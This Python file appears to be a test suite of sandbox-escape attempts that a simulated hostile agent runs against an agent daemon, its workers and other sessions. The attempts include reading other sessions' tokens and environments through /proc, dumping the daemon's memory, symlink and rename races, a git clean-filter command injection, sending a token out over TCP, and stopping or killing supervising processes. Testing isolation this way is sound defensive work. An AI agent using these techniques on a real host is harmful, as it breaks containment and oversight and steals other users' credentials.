"""Ways of the hostile agent against the daemon, its workers and its home. The last ones end them."""

import contextlib
import glob
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import time

import kernel
from attack_tools import FACTS, FILES, MARKS, OUT, PATIENCE_S, PIDS, answer, daemon_socket, http, payload, read, run, session_socket, tell, variable, way, write, write_to


@way
def home_read():
    tell("home_read", read(FILES["home_read"]))


@way
def home_write():
    write_to(os.path.join(FACTS["home"], "hostile", MARKS["home_write"]), "")


@way
def home_settings():
    write(os.path.join(FACTS["home"], "config.toml"), f"# {MARKS['home_settings']}\n")


@way
def home_chmod():
    os.chmod(FILES["home_chmod"], 0o666)


@way
def home_hard_link():
    link = os.path.join(OUT, "hard-link")
    os.link(FILES["home_hard_link"], link)
    tell("home_hard_link", read(link))


@way
def home_symlink():
    link = os.path.join(OUT, "symlink")
    os.symlink(FILES["home_symlink"], link)
    tell("home_symlink", read(link))


@way
def home_inotify():
    watch = kernel.libc.inotify_init()
    if kernel.libc.inotify_add_watch(watch, os.path.join(FACTS["home"], "hostile").encode(), 0x20) < 0:
        raise OSError("no such folder")
    deadline = time.monotonic() + PATIENCE_S / 2
    while time.monotonic() < deadline:
        if b"home_read" in os.read(watch, 4096):
            return tell("home_inotify", "home_read")


@way
def other_mail():
    folder = os.path.join(FACTS["home"], "mail", FACTS["other_session"], "tmp")
    message = json.dumps({"text": MARKS["other_mail"]})
    write_to(os.path.join(folder, "hostile"), message)
    os.rename(os.path.join(folder, "hostile"), os.path.join(folder, "../new/hostile"))


def own_mail(*path):
    return os.path.join(FACTS["home"], "mail", FACTS["own_session"], *path)


@way
def mail_link():
    """The daemon is to put a file among its manifests of agents, when it puts aside what is no message."""
    os.rename(own_mail("corrupt"), own_mail("corrupt.old"))
    os.symlink(os.path.join(FACTS["home"], "agents"), own_mail("corrupt"))
    write_to(own_mail("tmp/hostile.toml"), f"# {MARKS['mail_link']}\n")
    os.rename(own_mail("tmp/hostile.toml"), own_mail("new/hostile.toml"))
    wait_until_taken("hostile.toml")


@way
def mail_race():
    """The daemon is to take a file of the home for mail, because its folder of new mail becomes a link meanwhile."""
    name = os.path.basename(FILES["mail_race"])
    link = own_mail("link")
    os.symlink(os.path.dirname(FILES["mail_race"]), link)
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline:
        if not os.path.islink(own_mail("new")):
            write_to(own_mail("new", name), "hostile")
        kernel.exchange(link, own_mail("new"))
        for folder in ("cur", "corrupt"):
            for found in glob.glob(own_mail(folder, name + "*")):
                if not found.endswith(".reason") and (text := read(found)) != "hostile":
                    return tell("mail_race", text)
                os.unlink(found)
    if os.path.islink(own_mail("new")):
        kernel.exchange(link, own_mail("new"))


def wait_until_taken(name):
    deadline = time.monotonic() + PATIENCE_S / 2
    while os.path.exists(own_mail("new", name)) and time.monotonic() < deadline:
        time.sleep(0.05)


@way
def inherited_descriptor():
    """Whatever this process inherited, from the agent and those that started it."""
    for descriptor in range(3, 1024):
        try:
            found = os.open("inherited_descriptor", os.O_RDONLY, dir_fd=descriptor)
        except OSError:
            continue
        tell("inherited_descriptor", os.pread(found, 64, 0).decode())


@way
def any_descriptor():
    """Whatever any process that it sees has open. Processes of other tests may have such a file too."""
    for path in glob.iglob("/proc/[0-9]*/fd/*/any_descriptor"):
        with contextlib.suppress(OSError):
            write(os.path.join(OUT, "any_descriptor"), read(path) + "\n")


def other_variable(name):
    return variable(read(f"/proc/{FACTS['other_agent']}/environ"), name)


@way
def other_token():
    tell("other_token", read(os.path.join(FACTS["home"], "tools", FACTS["other_session"], "token")))


@way
def other_token_environ():
    tell("other_token_environ", other_variable("QD_SESSION_TOKEN"))


@way
def other_socket():
    tell("other_socket", http(session_socket(FACTS["other_session"]), "GET", FACTS["other_path"]))


@way
def other_mark():
    """The mark counts only in the environment that a process was started with."""
    own = [sys.executable, sys.argv[0], sys.argv[1], "look", "other_mark"]
    run(*own, env={"QD_MARK": other_variable("QD_MARK")})


@way
def token_over_tcp():
    token = read(os.path.join(FACTS["home"], "token")).strip()
    host, port = FACTS["tcp"].rsplit(":", 1)
    answer("token_over_tcp", socket.create_connection((host, int(port))), token)


@way
def daemon_environ():
    tell("daemon_environ", variable(read(f"/proc/{PIDS['daemon']}/environ"), "HOSTILE_daemon_environ"))


@way
def daemon_memory():
    pid, name = PIDS["daemon"], b"HOSTILE_daemon_memory="
    stack = next(line for line in read(f"/proc/{pid}/maps").splitlines() if line.endswith("[stack]"))
    start, end = (int(part, 16) for part in stack.split()[0].split("-"))
    with open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
        memory.seek(start)
        found = memory.read(end - start).split(name, 1)[1]
    tell("daemon_memory", found[:32].decode())


@way
def worker_root():
    tell("worker_root", read(f"/proc/{PIDS['worker']}/root{FILES['worker_root']}"))


@way
def worker_environ():
    tell("worker_environ", variable(read(f"/proc/{PIDS['worker']}/environ"), "HOSTILE_worker_environ"))


def stop_and_wait(pid):
    os.kill(pid, signal.SIGSTOP)
    # Whoever watches from outside continues it.
    time.sleep(0.2)


@way
def stop_worker():
    stop_and_wait(PIDS["worker"])


@way
def stop_keeper():
    stop_and_wait(PIDS["keeper"])


@way
def stop_daemon():
    stop_and_wait(PIDS["daemon"])


@way
def socket_answer():
    answer("socket_answer", daemon_socket())


@way
def own_socket():
    answer("own_socket", session_socket(FACTS["own_session"]))


@way
def socket_setsid():
    child = os.fork()
    if child:
        return os.waitpid(child, 0)
    os.setsid()
    if os.fork():
        os._exit(0)
    os.execve(sys.executable, [sys.executable, sys.argv[0], sys.argv[1], "answer", "socket_setsid"], {})


@way
def git_pointer():
    """The daemon's git is to run a filter that this worktree configures."""
    worktree, own = FACTS["worktree"], os.path.join(OUT, "own/.git")
    run("git", "-c", "safe.directory=*", "clone", "-q", FACTS["repository"], os.path.dirname(own))
    run("git", f"--git-dir={own}", "config", "filter.x.clean", payload("git_pointer") + "; cat")
    pointer = read(os.path.join(worktree, ".git"))
    # The daemon knows its worktrees by a file of its own.
    real = pointer.split("gitdir: ", 1)[1].strip()
    for name in set(os.listdir(real)) - {"HEAD", "index", "commondir", "gitdir", "logs", "refs"}:
        shutil.copy(os.path.join(real, name), own)
    try:
        write_to(os.path.join(worktree, ".git"), f"gitdir: {own}\n")
        write_to(os.path.join(worktree, ".gitattributes"), "* filter=x\n")
        write_to(os.path.join(worktree, "changed"), "x\n")
        tell("git_pointer.answer", http(daemon_socket(), "GET", FACTS["diff"]))
    finally:
        write_to(os.path.join(worktree, ".git"), pointer)


# Last, because nothing works afterwards. These run in a process that has left the agent.

def orphan_answers():
    # Each of the two would end us if it saw the other die.
    for number in (signal.SIGSTOP, signal.SIGKILL):
        for process in ("worker", "keeper"):
            try:
                os.kill(PIDS[process], number)
            except OSError:
                pass
    # It is adopted once both are gone.
    deadline = time.monotonic() + PATIENCE_S / 2
    while os.getppid() in (PIDS["keeper"], PIDS["worker"]) and time.monotonic() < deadline:
        time.sleep(0.01)
    answer("orphan_answers", daemon_socket())


def kill_daemon():
    os.kill(PIDS["daemon"], signal.SIGKILL)
    deadline = time.monotonic() + PATIENCE_S / 2
    while os.path.exists(f"/proc/{PIDS['daemon']}/fd/0") and time.monotonic() < deadline:
        time.sleep(0.01)


def own_daemon():
    command = [FACTS["qd"], "serve", "--home", FACTS["home"], "--listen", "127.0.0.1:0"]
    with open(os.path.join(OUT, "own_daemon.stderr"), "w") as stderr:
        daemon = subprocess.Popen(command, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=stderr, text=True)
    line = daemon.stdout.readline()
    host, port = line.split("http://", 1)[1].strip().rsplit(":", 1)
    token = read(os.path.join(FACTS["home"], "token")).strip()
    answer("own_daemon", socket.create_connection((host, int(port))), token)
